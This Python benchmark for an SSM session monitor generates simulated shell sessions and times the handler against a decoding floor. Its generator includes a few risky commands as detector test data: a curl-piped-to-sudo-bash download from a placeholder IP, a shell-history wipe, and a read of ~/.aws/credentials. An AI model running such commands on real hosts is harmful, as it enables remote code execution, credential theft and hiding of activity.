"""The command watch's processing time on a maximum-size batch, beside the decoding floor.

Run ``python -m bench handler`` (or ``python -m bench`` for every bench module). Prints JSON lines.

The batch is generated, not copied: a simulated shell session (Amazon Linux and Ubuntu prompts, a
``sudo su -`` with its prompt change, commands drawn from everyday templates with varying
arguments, a few multi-line commands and here-documents, a few risky commands and a secret shown on
screen, and the output those commands print) cut into about 10,000 streamed log events holding about
1 MB of ``sessionData``, gzipped and base64-encoded as CloudWatch Logs delivers it.

Figures, all measured in the same run on the same payload, interleaved, as wall and CPU time:
- ``floor``: base64 + gunzip + the payload's JSON decode + every message's JSON decode
  (``json.loads``); ``floor_scanner``: the same with the messages decoded as the handler does
  (json's C scanner without the ``json.loads`` wrapper), the stricter comparison;
- ``handler``: ``process_subscription`` (decode + extract + judge + decide) with the AWS calls
  replaced by in-memory stand-ins (ledger, action queue, audit trail): the pure path only;
- ``cpu_ratio_per_pass_min_median_max``: each handler pass to the mean of the floor passes just
  before and just after it; ``cpu_ratio_of_minimums``: the least handler pass to the least floor pass;
- peak memory of one handler pass (tracemalloc) and the process's maximum resident size.
Target: handler <= 2x floor, peak < 128 MB.
"""

from __future__ import annotations

import base64
import gc
import gzip
import json
import random
import resource
import statistics
import sys
import time
import tracemalloc
import zlib
from collections.abc import Callable, Sequence
from datetime import datetime
from typing import Any

from ssm_warden.detect.facts import NO_OWN_NETWORK, OwnNetwork
from ssm_warden.models.actions import ActionRequest
from ssm_warden.models.audit import AuditRecord
from ssm_warden.models.session import Principal, SessionRecord
from ssm_warden.monitor.judging import BatchJudge, batch_judge
from ssm_warden.monitor.service import BatchResult, Dependencies, gc_paused, process_subscription
from ssm_warden.policy.loader import default_policy
from ssm_warden.policy.store import PolicyState

SESSION_ID = "alice-0e34861185201706f"
ACCOUNT = "123456789012"
TARGET_BYTES = 1_000_000
TARGET_EVENTS = 10_000
REPEAT = 40  # passes per figure: the per-pass ratio spreads widely on a shared machine

_HOSTS = ["ip-10-0-1-23", "ip-10-0-7-201"]
_SERVICES = ["nginx", "app", "worker", "postgresql", "redis", "sshd", "cron"]
_PODS = ["api", "web", "worker", "scheduler", "ingest"]
_DIRS = ["/var/log", "/srv/app", "/etc/nginx", "/opt/app/releases", "/home/ec2-user", "/tmp"]
_WORDS = ["error", "timeout", "GET", "POST", "started", "user_id", "latency", "retry", "OOM", "ready"]


class MemoryStore:
    """The ledger operations, in memory (bench only)."""

    def __init__(self) -> None:
        self.watch: dict[str, Any] | None = None
        self.last_output: datetime | None = None
        self.commands = 0
        self.findings = 0

    def get_with_watch(
        self, account: str, region: str, session_id: str
    ) -> tuple[SessionRecord | None, dict[str, Any] | None, dict[str, Any] | None]:
        record = SessionRecord(
            session_id=session_id,
            account=account,
            region=region,
            target_id="i-0123456789abcdef0",
            target_tags={"Environment": "prod"},
            principal=Principal(arn="arn:aws:sts::123456789012:assumed-role/Admin/alice"),
            started_at=datetime(2024, 1, 4, 5, 40),
        )
        return record, self.watch, None

    def save_watch(
        self,
        account: str,
        region: str,
        session_id: str,
        *,
        values: dict[str, Any],
        previous_batches: int | None,
        now: datetime,
    ) -> bool:
        self.watch = values
        return True

    def flush_watch(
        self,
        account: str,
        region: str,
        session_id: str,
        *,
        batches: int,
        commands: int,
        findings: int,
        output_at: datetime | None,
    ) -> bool:
        self.commands, self.findings, self.last_output = commands, findings, output_at
        return True

    def claim_termination_slot(
        self, account: str, region: str, minute: datetime, action_id: str, cap: int
    ) -> bool:
        return True


class MemorySink:
    def __init__(self) -> None:
        self.actions: list[ActionRequest] = []

    def submit(self, actions: Sequence[ActionRequest]) -> None:
        self.actions.extend(actions)


def _log_line(rng: random.Random, svc: str) -> str:
    return (
        f"2024-01-04T05:{rng.randint(10, 59)}:{rng.randint(10, 59)}Z {rng.choice(['INFO', 'WARN'])} "
        f"{svc}[{rng.randint(100, 9999)}]: {rng.choice(_WORDS)} {rng.choice(_WORDS)} "
        f"request_id={rng.getrandbits(64):016x} took={rng.randint(1, 900)}ms"
    )


def _command_and_output(rng: random.Random, root: bool) -> tuple[list[str], list[str]]:
    """One command as the terminal echoes it (lines after the prompt) and the output it prints
    (as many lines as the command asks for: ``tail -n 80`` prints 80)."""
    svc, pod, d = rng.choice(_SERVICES), rng.choice(_PODS), rng.choice(_DIRS)
    n = rng.randint(5, 120)
    owner = "root" if root else "ec2-user"
    pick = rng.random()
    if pick < 0.18:
        cmd = [rng.choice([f"ls -la {d}", f"ls -lh {d}/{svc}", "ls", f"cd {d}", "pwd"])]
        out = [
            f"-rw-r--r--  1 {owner} staff {rng.randint(10, 99999):>6} "
            f"Jan {rng.randint(1, 28):>2} 0{rng.randint(0, 9)}:{rng.randint(10, 59)} {svc}-{i}.log"
            for i in range(0 if cmd[0].startswith(("cd", "pwd")) else rng.randint(1, 30))
        ]
    elif pick < 0.34:
        cmd = [rng.choice([f"tail -n {n} {d}/{svc}.log", f"journalctl -u {svc} -n {n}", "dmesg -T | tail"])]
        out = [_log_line(rng, svc) for _ in range(10 if "dmesg" in cmd[0] else n)]
    elif pick < 0.40:
        cmd = [f"kubectl logs deploy/{pod} --tail={n}"]
        out = [
            f'{{"level":"{rng.choice(["info", "warn"])}","msg":"{rng.choice(_WORDS)}","pod":"{pod}",'
            f'"trace":"{rng.getrandbits(64):016x}","ms":{rng.randint(1, 900)}}}'
            for _ in range(n)
        ]
    elif pick < 0.46:
        cmd = [rng.choice([f"kubectl get pods -n {pod}", "docker ps"])]
        out = ["NAME                         READY   STATUS    RESTARTS   AGE"] + [
            f"{pod}-{rng.getrandbits(32):08x}-{rng.getrandbits(20):05x}   1/1     Running   "
            f"{rng.randint(0, 5)}          {rng.randint(1, 90)}d"
            for _ in range(rng.randint(2, 20))
        ]
    elif pick < 0.56:
        cmd = [rng.choice([f"sudo systemctl status {svc}", f"systemctl restart {svc}", "uptime", "df -h"])]
        out = [f"  {svc}.service - {svc.title()} server", f"   Active: active (running) since {n} min ago"]
    elif pick < 0.64:
        head = min(n, 40)
        cmd = [rng.choice([f"grep -rn {rng.choice(_WORDS)} {d} | head -n {head}", f"ps aux | grep {svc}"])]
        out = [
            f"{d}/{svc}.conf:{rng.randint(1, 300)}: {rng.choice(_WORDS)} = {rng.randint(0, 9999)}"
            for _ in range(head if "head" in cmd[0] else rng.randint(1, 6))
        ]
    elif pick < 0.70:
        cmd = [rng.choice(["git status", "git log --oneline -5", f"git checkout release-{n}", "git pull"])]
        out = [f"{rng.getrandbits(28):07x} {rng.choice(_WORDS)} {rng.choice(_WORDS)} fix" for _ in range(5)]
    elif pick < 0.74:
        cmd = [f"for h in {' '.join(rng.sample(_PODS, 3))}; do", '  curl -s "http://$h:8080/health"', "done"]
        out = [f'{{"status":"ok","uptime":{rng.randint(1, 99999)}}}' for _ in range(3)]
    elif pick < 0.77:
        cmd = [f"cat <<'EOF' > /tmp/{svc}.env", f"LOG_LEVEL={rng.choice(_WORDS)}", f"WORKERS={n}", "EOF"]
        out = []
    elif pick < 0.79:
        cmd = [f"aws s3 ls s3://backups-{n} \\", "  --recursive --human-readable"]
        out = [
            f"2024-01-0{rng.randint(1, 4)} 0{rng.randint(0, 9)}:00:00 {n}.{i} MiB db.dump" for i in range(9)
        ]
    elif pick < 0.795:
        risky = ["curl -fsSL http://203.0.113.9/x.sh | sudo bash", "history -c", "cat ~/.aws/credentials"]
        cmd = [rng.choice(risky)]
        out = ["[default]", "aws_access_key_id = AKIAIOSFODNN7EXAMPLE"]
    else:
        everyday = [
            "clear",
            "whoami",
            "id",
            "date",
            "free -m",
            "top -bn1 | head -n 15",
            f"vim {d}/{svc}.conf",
        ]
        cmd = [rng.choice(everyday)]
        out = [
            f"{rng.choice(_WORDS)} {rng.randint(0, 99999)} {rng.choice(_WORDS)}"
            for _ in range(rng.randint(0, 8))
        ]
    return cmd, out


def session_lines(rng: random.Random, total_bytes: int) -> list[str]:
    """Terminal output of a simulated session, about ``total_bytes`` long."""
    host = rng.choice(_HOSTS)
    user_prompt, root_prompt = f"[ec2-user@{host} ~]$ ", f"[root@{host} ~]# "
    lines = ["sh-4.2$ sh-4.2$ bash", f"{user_prompt}sudo su -", "Last login: Thu Jan  4 05:40:01 UTC 2024"]
    size = sum(len(x) for x in lines)
    root = True
    while size < total_bytes:
        prompt = root_prompt if root else user_prompt
        cmd, out = _command_and_output(rng, root)
        if rng.random() < 0.02:  # a typo fixed with backspace before Enter
            cmd[0] = cmd[0][:-1] + "x\b \b" + cmd[0][-1]
        block = [prompt + cmd[0], *("> " + c for c in cmd[1:]), *out]
        if rng.random() < 0.01:
            root = not root
            block.append(prompt + ("exit" if root else "sudo su -"))
        lines.extend(block)
        size += sum(len(x) for x in block)
    return lines


def build_payload(
    seed: int = 42, target_bytes: int = TARGET_BYTES, target_events: int = TARGET_EVENTS
) -> tuple[dict[str, Any], dict[str, int]]:
    """A subscription payload of one streamed session (by default the largest CloudWatch sends)."""
    rng = random.Random(seed)
    lines = session_lines(rng, target_bytes)
    events: list[dict[str, Any]] = []
    base_ms = 1_704_347_159_000
    first_id = 37_000_000_000_000_000_000_000_000_000_000_000_000_000_000_000_000_000_000
    count = min(target_events, len(lines))
    bounds = [len(lines) * k // count for k in range(count + 1)]
    for n in range(count):
        message = {
            "eventVersion": "1.0",
            "eventTime": "2024-01-04T05:45:59Z",
            "awsRegion": "us-east-1",
            "target": {"id": "i-0123456789abcdef0"},
            "userIdentity": {"arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/Admin/alice"},
            "runAsUser": "ssm-user",
            "sessionId": SESSION_ID,
            "sessionData": lines[bounds[n] : bounds[n + 1]],
        }
        events.append(
            {"id": str(first_id + n), "timestamp": base_ms + n * 250, "message": json.dumps(message)}
        )
    doc = {
        "messageType": "DATA_MESSAGE",
        "owner": ACCOUNT,
        "logGroup": "/aws/ssm/sessions",
        "logStream": SESSION_ID,
        "subscriptionFilters": ["ssm-warden"],
        "logEvents": events,
    }
    raw = json.dumps(doc).encode()
    data = base64.b64encode(gzip.compress(raw)).decode()
    shape = {
        "log_events": len(events),
        "lines": len(lines),
        "session_data_bytes": sum(len(x.encode()) for x in lines),
        "json_bytes": len(raw),
        "payload_bytes": len(data),
    }
    return {"awslogs": {"data": data}}, shape


def floor(event: dict[str, Any]) -> int:
    """The least any handler must do: base64, gunzip, and both JSON decodes (``json.loads``)."""
    doc = json.loads(zlib.decompress(base64.b64decode(event["awslogs"]["data"]), zlib.MAX_WBITS | 32))
    count = 0
    for log_event in doc["logEvents"]:
        count += len(json.loads(log_event["message"])["sessionData"])
    return count


_scan = json.JSONDecoder().scan_once  # type: ignore[attr-defined]


def floor_scanner(event: dict[str, Any]) -> int:
    """The same floor with the messages decoded as the handler decodes them (json's C scanner
    called directly, without ``json.loads``' wrapper): the stricter comparison."""
    doc = json.loads(zlib.decompress(base64.b64decode(event["awslogs"]["data"]), zlib.MAX_WBITS | 32))
    count = 0
    for log_event in doc["logEvents"]:
        count += len(_scan(log_event["message"], 0)[0]["sessionData"])
    return count


_JUDGES_USED: set[BatchJudge] = set()


def _judge_for(packs: tuple[str, ...], own: OwnNetwork) -> BatchJudge:
    """The monitor's own judge for this batch (``batch_judge``), remembered so that each pass can
    forget what the previous one judged: the bench measures a batch of commands never seen."""
    judge = batch_judge(packs, own)
    _JUDGES_USED.add(judge)
    return judge


def dependencies() -> tuple[Dependencies, MemoryStore, MemorySink, list[AuditRecord]]:
    store, sink, audit = MemoryStore(), MemorySink(), []
    policy = PolicyState(default_policy())

    def write(record: AuditRecord) -> bool:
        audit.append(record)
        return True

    deps = Dependencies(
        store=store,
        sink=sink,
        write_audit=write,
        policy=lambda: policy,
        detector=_judge_for,
        region="us-east-1",
    )
    return deps, store, sink, audit


def _timed(fn: Callable[[], object]) -> tuple[float, float]:
    """(wall seconds, this process's CPU seconds) of one call, from the same process state for every
    figure: garbage collected before, none during (the handler pauses the collector for a batch, so
    the floor must run without it too, or the floor pays for collections the handler skips)."""
    gc.collect()
    with gc_paused():
        wall, cpu = time.perf_counter(), time.process_time()
        fn()
        return time.perf_counter() - wall, time.process_time() - cpu


def main() -> None:
    event, shape = build_payload()
    print(json.dumps({"figure": "handler_batch", **shape}))
    batch_judge(("default",), NO_OWN_NETWORK)  # a warm container: rules compiled before the batch arrives

    results: list[BatchResult] = []

    def run() -> None:
        deps, *_ = dependencies()  # a fresh ledger each pass: the batch is new every time
        for judge in _JUDGES_USED:  # and no command of it judged before
            judge.clear()
        results.append(process_subscription(event, deps))

    run()  # warm-up (first-call imports)
    floor(event)
    # Interleaved, so that all see the same machine (other processes, CPU frequency). Wall time and
    # this process's CPU time are both kept: on a shared machine the CPU time is the steadier figure.
    samples: dict[str, list[tuple[float, float]]] = {"floor": [], "floor_scanner": [], "handler": []}
    for _ in range(REPEAT):
        samples["floor"].append(_timed(lambda: floor(event)))
        samples["floor_scanner"].append(_timed(lambda: floor_scanner(event)))
        samples["handler"].append(_timed(run))
    # One floor more, so that every handler pass lies between two floor passes: its per-pass ratio
    # is to their mean (the machine as it was just before and just after that pass).
    samples["floor"].append(_timed(lambda: floor(event)))
    tracemalloc.start()
    run()
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    last = results[-1]

    def median_ms(name: str, which: int) -> float:
        return round(statistics.median(s[which] for s in samples[name]) * 1000, 1)

    figures: dict[str, Any] = {
        "figure": "handler_processing",
        "note": "pure path (decode + extract + judge + decide): ledger, action queue and audit trail "
        "replaced by in-memory stand-ins; the floor decodes the same payload in the same run",
    }
    for clock, which in (("wall", 0), ("cpu", 1)):
        handler_ms = median_ms("handler", which)
        figures[f"{clock}_handler_ms_median"] = handler_ms
        figures[f"{clock}_floor_ms_median"] = median_ms("floor", which)
        figures[f"{clock}_floor_scanner_ms_median"] = median_ms("floor_scanner", which)
        figures[f"{clock}_ratio_to_floor"] = round(handler_ms / median_ms("floor", which), 2)
        figures[f"{clock}_ratio_to_floor_scanner"] = round(handler_ms / median_ms("floor_scanner", which), 2)
    floors = samples["floor"]
    ratios = sorted(h[1] * 2 / (floors[k][1] + floors[k + 1][1]) for k, h in enumerate(samples["handler"]))
    figures["cpu_ratio_per_pass_min_median_max"] = [
        round(ratios[0], 2),
        round(statistics.median(ratios), 2),
        round(ratios[-1], 2),
    ]
    # The least time of each over all passes: the figure least disturbed by other processes.
    figures["cpu_ratio_of_minimums"] = round(
        min(h[1] for h in samples["handler"]) / min(f[1] for f in samples["floor"]), 2
    )
    figures.update(
        {
            "target_ratio": 2.0,
            "target_median_ratio": 1.5,
            "commands": last.commands,
            "output_lines": last.output_lines,
            "findings": dict(last.findings),
            "actions": last.actions,
            "repeat": REPEAT,
        }
    )
    print(json.dumps(figures))
    print(
        json.dumps(
            {
                "figure": "handler_memory",
                "tracemalloc_peak_mb": round(peak / 2**20, 1),
                "note": "peak of Python allocations during one handler pass (payload in hand)",
                "process_max_rss_mb": round(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024, 1),
                "rss_note": "the whole process's high-water mark, including whatever ran before in it",
                "target_mb": 128,
            }
        )
    )
    sys.stdout.flush()


if __name__ == "__main__":
    main()
